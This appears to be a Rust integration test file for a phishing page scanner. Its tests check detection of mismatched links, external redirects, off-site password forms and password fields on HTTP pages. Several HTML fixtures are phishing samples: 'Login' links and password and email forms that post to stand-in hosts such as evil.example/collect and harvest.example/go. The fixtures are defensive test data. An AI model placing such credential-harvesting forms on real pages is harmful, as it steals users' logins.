/// Integration tests for the heuristic page scanner
/// Exercises the four rules end to end over realistic page fixtures
use phishguard::models::{DetectionKind, RiskLevel, Severity};
use phishguard::scanner::scan_page;

#[test]
fn page_without_scannable_elements_is_empty() {
    let html = r#"<html><head><title>News</title></head>
        <body><h1>Today</h1><p>Nothing suspicious here.</p>
        <img src="/logo.png"><div class="footer">(c) 2026</div></body></html>"#;
    let outcome = scan_page(html, "https://news.example/").unwrap();
    assert_eq!(outcome.detections.total, 0);
    assert_eq!(outcome.detections.overall_risk(), RiskLevel::Safe);
    assert!(outcome.highlights.is_empty());
}

#[test]
fn login_anchor_on_bank_page_yields_mismatch_and_redirect() {
    let html = r#"<body><a href="https://evil.example/x">Login</a></body>"#;
    let outcome = scan_page(html, "https://bank.example").unwrap();

    let mismatches = outcome
        .detections
        .detections
        .iter()
        .filter(|d| d.kind == DetectionKind::LinkMismatch)
        .count();
    let redirects = outcome
        .detections
        .detections
        .iter()
        .filter(|d| d.kind == DetectionKind::ExternalRedirect)
        .count();
    assert_eq!(mismatches, 1);
    assert_eq!(redirects, 1);
    assert_eq!(outcome.detections.total, 2);
}

#[test]
fn external_form_with_password_is_single_high_detection() {
    let html = r#"<form action="https://evil.example/collect" method="post">
        <input type="text" name="user">
        <input type="password" name="pass">
    </form>"#;
    let outcome = scan_page(html, "https://bank.example").unwrap();

    let forms: Vec<_> = outcome
        .detections
        .detections
        .iter()
        .filter(|d| d.kind == DetectionKind::ExternalFormAction)
        .collect();
    assert_eq!(forms.len(), 1);
    assert_eq!(forms[0].severity, Severity::High);
    assert_eq!(
        forms[0].evidence.target_domain.as_deref(),
        Some("evil.example")
    );
}

#[test]
fn external_form_evidence_reports_email_field() {
    let html = r#"<form action="https://harvest.example/go">
        <input type="email" name="email">
        <input type="password" name="password">
    </form>"#;
    let outcome = scan_page(html, "https://shop.example").unwrap();
    let form = outcome
        .detections
        .detections
        .iter()
        .find(|d| d.kind == DetectionKind::ExternalFormAction)
        .unwrap();
    let names = form.evidence.field_names.as_ref().unwrap();
    assert!(names.iter().any(|n| n == "email"));
    assert!(names.iter().any(|n| n == "password"));
    assert_eq!(form.evidence.has_email, Some(true));
}

#[test]
fn email_presence_survives_serialization_even_with_opaque_name() {
    // the email marker must not depend on the field being *named* email
    let html = r#"<form action="https://harvest.example/go">
        <input type="email" name="login_id">
        <input type="password" name="pw">
    </form>"#;
    let outcome = scan_page(html, "https://shop.example").unwrap();
    let json = serde_json::to_value(&outcome.detections).unwrap();
    let form = json["detections"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["type"] == "external_form_action")
        .unwrap();
    assert_eq!(form["evidence"]["has_email"], true);
}

#[test]
fn same_host_form_is_clean() {
    let html = r#"<form action="https://bank.example/login" method="post">
        <input type="password" name="pass">
    </form>"#;
    let outcome = scan_page(html, "https://bank.example").unwrap();
    assert!(outcome
        .detections
        .detections
        .iter()
        .all(|d| d.kind != DetectionKind::ExternalFormAction));
}

#[test]
fn http_page_with_password_field_is_high() {
    let html = r#"<form action="/login"><input type="password" name="p"></form>"#;
    let outcome = scan_page(html, "http://shop.example").unwrap();
    let pw = outcome
        .detections
        .detections
        .iter()
        .find(|d| d.kind == DetectionKind::InsecurePasswordField)
        .unwrap();
    assert_eq!(pw.severity, Severity::High);
}

#[test]
fn malformed_href_does_not_abort_scan() {
    let html = r#"
        <a href="http://">broken</a>
        <a href="https://evil.example/x">Login</a>
    "#;
    let outcome = scan_page(html, "https://bank.example").unwrap();
    // the second anchor is still scanned
    assert!(outcome
        .detections
        .detections
        .iter()
        .any(|d| d.kind == DetectionKind::ExternalRedirect));
}

#[test]
fn subdomain_of_page_host_is_not_external() {
    let html = r#"<a href="https://www.bank.example/help">bank help</a>"#;
    let outcome = scan_page(html, "https://bank.example").unwrap();
    assert!(outcome
        .detections
        .detections
        .iter()
        .all(|d| d.kind != DetectionKind::ExternalRedirect));
}

#[test]
fn mixed_page_reports_max_severity() {
    let html = r#"
        <a href="https://tracker.example/c">bank news</a>
        <form action="https://evil.example/collect">
            <input type="password" name="pw">
        </form>
    "#;
    let outcome = scan_page(html, "https://bank.example").unwrap();
    assert_eq!(outcome.detections.max_severity(), Some(Severity::High));
    assert_eq!(outcome.detections.overall_risk(), RiskLevel::High);
}

#[test]
fn detections_never_serialize_element_ordinals() {
    let html = r#"<a href="https://evil.example/x">Login</a>"#;
    let outcome = scan_page(html, "https://bank.example").unwrap();
    let json = serde_json::to_value(&outcome.detections).unwrap();
    for d in json["detections"].as_array().unwrap() {
        assert!(d.get("element").is_none());
    }
}
